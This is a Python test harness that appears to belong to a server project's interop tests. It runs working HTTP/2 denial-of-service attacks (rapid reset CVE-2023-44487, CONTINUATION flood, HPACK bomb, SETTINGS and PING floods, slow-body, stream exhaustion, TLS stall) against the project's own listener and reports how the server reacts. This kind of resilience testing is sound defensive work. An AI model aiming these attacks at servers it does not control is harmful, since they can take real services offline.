#!/usr/bin/env python3
"""Hostile HTTP/2 (cleartext, prior knowledge) client: one attack per run, frames built
with hyperframe/hpack (not the project's code), against ringcast's h2c listener.

Prints one JSON line on stdout describing what the server did:
  {"attack": ..., "closed": bool, "goaway": code or null, "resets": [codes],
   "statuses": [ints], "sent_bytes": n, "seconds": s}
"closed" means the server closed the TCP connection (after a GOAWAY or not) within the
run's time limit; "statuses" are the response :status values received; "resets" the
RST_STREAM error codes received.

    python3 tests/interop/h2_hostile.py --addr HOST:PORT --attack NAME [--seconds S]

Attacks:
  slow-body        POST with Content-Length 10, one byte of body, then nothing
  declared-over    POST declaring Content-Length 10**12, no body
  body-over        POST without Content-Length, 4 KiB DATA frames until refused
  no-headers       HEADERS without END_HEADERS, then nothing (the head never completes)
  idle             preface and SETTINGS, then nothing (no request at all)
  rapid-reset      HEADERS + RST_STREAM pairs (CVE-2023-44487)
  continuation     HEADERS without END_HEADERS, then endless CONTINUATION frames
  hpack-bomb       one 4 KiB header in the dynamic table, referenced 4,000 times
  settings-flood   SETTINGS frames without reading the ACKs
  ping-flood       PING frames without reading the PONGs
  streams          300 concurrent subscriptions on one connection
  header-size      one request with a 64 KiB header
  tls-stall        (--addr: the TLS listener) a ClientHello offering ALPN h2, then nothing
"""

import argparse
import json
import select
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Client:
    def __init__(self, addr, deadline):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.deadline = deadline
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.buf = b""
        self.closed = False
        self.goaway = None
        self.resets = []
        self.statuses = []
        self.sent = 0
        self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data):
        """Sends `data`; False once the server closed or stopped reading for 2 s."""
        view = memoryview(data)
        while view:
            _, writable, _ = select.select([], [self.sock], [], 2)
            if not writable:
                return False
            try:
                n = self.sock.send(view)
            except OSError:
                self.closed = True
                return False
            self.sent += n
            view = view[n:]
        return True

    def headers(self, stream_id, fields, end_stream, end_headers=True):
        block = self.encoder.encode(fields)
        frame = HeadersFrame(stream_id, block)
        frame.flags.add("END_HEADERS") if end_headers else None
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def poll(self, wait):
        """Reads frames for up to `wait` seconds (or until closed)."""
        end = time.monotonic() + wait
        while not self.closed:
            left = max(0.0, end - time.monotonic())
            readable, _, _ = select.select([self.sock], [], [], left)
            if not readable:
                return
            try:
                chunk = self.sock.recv(65536)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.buf += chunk
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets.append(frame.error_code)
            elif isinstance(frame, HeadersFrame):
                for name, value in self.decoder.decode(frame.data):
                    if name in (":status", b":status"):
                        self.statuses.append(int(value))
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                self.send(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())

    def wait_status(self, wait):
        end = time.monotonic() + wait
        while not self.statuses and not self.closed and time.monotonic() < end:
            self.poll(min(0.05, max(0.0, end - time.monotonic())))


def request(authority, method, path, extra=()):
    return [
        (":method", method),
        (":scheme", "http"),
        (":authority", authority),
        (":path", path),
    ] + list(extra)


def tls_stall(args):
    """Sends a ClientHello offering h2 and never answers the server's flight."""
    import ssl

    start = time.monotonic()
    host, port = args.addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=5)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    sock.sendall(outgoing.read())
    closed, received = False, 0
    sock.settimeout(0.1)
    while time.monotonic() < start + args.seconds:
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            chunk = b""
        if not chunk:
            closed = True
            break
        received += len(chunk)
    print(
        json.dumps(
            {
                "attack": "tls-stall",
                "closed": closed,
                "received_bytes": received,
                "seconds": round(time.monotonic() - start, 3),
            }
        ),
        flush=True,
    )
    return 0


def run(args):
    if args.attack == "tls-stall":
        return tls_stall(args)
    start = time.monotonic()
    deadline = start + args.seconds
    c = Client(args.addr, deadline)
    auth = args.addr
    c.poll(0.2)

    def until_closed():
        while not c.closed and time.monotonic() < deadline:
            c.poll(0.1)

    if args.attack == "slow-body":
        c.send(c.headers(1, request(auth, "POST", "/rooms/slow/messages", [("content-length", "10")]), False))
        c.send(DataFrame(1, b"x").serialize())
        c.wait_status(args.seconds)
    elif args.attack == "declared-over":
        c.send(c.headers(1, request(auth, "POST", "/rooms/big/messages", [("content-length", str(10**12))]), False))
        c.wait_status(args.seconds)
    elif args.attack == "body-over":
        c.send(c.headers(1, request(auth, "POST", "/rooms/big/messages"), False))
        chunk = DataFrame(1, b"y" * 4096).serialize()
        body = 0
        while not c.statuses and not c.closed and time.monotonic() < deadline:
            if not c.send(chunk):
                break
            body += 4096
            c.poll(0)
        c.wait_status(max(0.0, deadline - time.monotonic()))
    elif args.attack == "no-headers":
        c.send(c.headers(1, request(auth, "GET", "/rooms/a/events"), True, end_headers=False))
        until_closed()
    elif args.attack == "idle":
        until_closed()
    elif args.attack == "rapid-reset":
        stream = 1
        while not c.closed and c.goaway is None and time.monotonic() < deadline and stream < 200001:
            batch = b""
            for _ in range(100):
                batch += c.headers(stream, request(auth, "GET", "/rooms/rr/events"), True)
                batch += RstStreamFrame(stream, error_code=8).serialize()
                stream += 2
            if not c.send(batch):
                break
            c.poll(0)
        until_closed()
    elif args.attack == "continuation":
        c.send(c.headers(1, request(auth, "GET", "/rooms/a/events"), True, end_headers=False))
        junk = hpack.Encoder().encode([("x-filler", "z" * 1000)])
        frame = ContinuationFrame(1, junk).serialize()
        while not c.closed and time.monotonic() < deadline:
            if not c.send(frame * 16):
                break
            c.poll(0)
        until_closed()
    elif args.attack == "hpack-bomb":
        # Literal with incremental indexing puts the header at dynamic index 62; each
        # further reference costs the attacker 1 byte (0xbe) and the server 4 KiB.
        c.send(c.headers(1, request(auth, "GET", "/healthz", [("x-bomb", "b" * 4096)]), True))
        c.poll(0.3)
        block = c.encoder.encode(request(auth, "GET", "/healthz")) + b"\xbe" * 4000
        frame = HeadersFrame(3, block, flags=["END_HEADERS", "END_STREAM"])
        c.send(frame.serialize())
        while not c.closed and not c.resets and len(c.statuses) < 2 and time.monotonic() < deadline:
            c.poll(0.05)
    elif args.attack in ("settings-flood", "ping-flood"):
        if args.attack == "settings-flood":
            frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
        else:
            frame = PingFrame(0, b"12345678").serialize()
        batch = frame * 1000
        # Never read: the server must stop reading or close, not queue answers without end.
        while not c.closed and time.monotonic() < deadline:
            if not c.send(batch):
                break
        c.poll(0)
        until_closed()
    elif args.attack == "streams":
        batch = b""
        for n in range(300):
            batch += c.headers(1 + 2 * n, request(auth, "GET", f"/rooms/s{n}/events"), True)
        c.send(batch)
        while not c.closed and len(c.statuses) + len(c.resets) < 300 and time.monotonic() < deadline:
            c.poll(0.05)
    elif args.attack == "header-size":
        # 64 KiB of header fields in one block, split into frames the peer accepts.
        block = c.encoder.encode(request(auth, "GET", "/healthz", [("x-big", "h" * 65536)]))
        pieces = [block[i : i + 16000] for i in range(0, len(block), 16000)]
        frames = HeadersFrame(1, pieces[0], flags=["END_STREAM"]).serialize()
        for n, piece in enumerate(pieces[1:], 2):
            flags = ["END_HEADERS"] if n == len(pieces) else []
            frames += ContinuationFrame(1, piece, flags=flags).serialize()
        c.send(frames)
        c.wait_status(args.seconds)
        c.poll(0.5)
    else:
        print(f"unknown attack {args.attack}", file=sys.stderr)
        return 2
    print(
        json.dumps(
            {
                "attack": args.attack,
                "closed": c.closed,
                "goaway": c.goaway,
                "resets": c.resets[:20],
                "reset_count": len(c.resets),
                "statuses": c.statuses[:20],
                "status_count": len(c.statuses),
                "sent_bytes": c.sent,
                "seconds": round(time.monotonic() - start, 3),
            }
        ),
        flush=True,
    )
    return 0


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--addr", required=True, help="HOST:PORT of the h2c listener")
    parser.add_argument("--attack", required=True)
    parser.add_argument("--seconds", type=float, default=5.0, help="time limit")
    sys.exit(run(parser.parse_args()))


if __name__ == "__main__":
    main()
